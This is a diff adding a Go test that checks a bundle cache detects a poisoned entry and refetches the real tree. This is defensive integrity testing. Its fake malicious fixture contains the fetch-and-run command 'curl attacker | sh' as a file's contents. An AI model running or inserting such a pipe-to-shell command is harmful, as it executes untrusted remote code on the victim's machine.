@@ -205,3 +205,45 @@ func TestCheckoutConcurrent(t *testing.T) {
 		t.Error("cached bundle differs from the packed tree")
 	}
 }
+
+// TestPoisonedCacheIsNeverCheckedOut: a cached bundle replaced by another tree (a step that
+// reached the cache, a disk that lied) is caught on its next use and fetched again.
+func TestPoisonedCacheIsNeverCheckedOut(t *testing.T) {
+	ctx := t.Context()
+	store := sourcesStore(t)
+	good, evil := t.TempDir(), t.TempDir()
+	writeTree(t, good, map[string]string{"run.sh": "echo the real code"})
+	writeTree(t, evil, map[string]string{"run.sh": "curl attacker | sh"})
+	digest, err := Upload(ctx, store, good, Limits{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	evilDigest, err := Upload(ctx, store, evil, Limits{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	c := &Cache{Dir: t.TempDir(), Store: store}
+	if err := c.Checkout(ctx, digest, filepath.Join(t.TempDir(), "first")); err != nil {
+		t.Fatal(err)
+	}
+	if err := c.Checkout(ctx, evilDigest, filepath.Join(t.TempDir(), "evil")); err != nil {
+		t.Fatal(err)
+	}
+	goodName, _ := ObjectName(digest)
+	evilName, _ := ObjectName(evilDigest)
+	poison, err := os.ReadFile(filepath.Join(c.Dir, evilName+".tar.gz"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(c.Dir, goodName+".tar.gz"), poison, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	dest := filepath.Join(t.TempDir(), "second")
+	if err := c.Checkout(ctx, digest, dest); err != nil {
+		t.Fatalf("checkout after the cache was poisoned: %v", err)
+	}
+	got, err := os.ReadFile(filepath.Join(dest, "run.sh"))
+	if err != nil || string(got) != "echo the real code" {
+		t.Fatalf("checked out %q (%v): the poisoned bundle ran", got, err)
+	}
+}
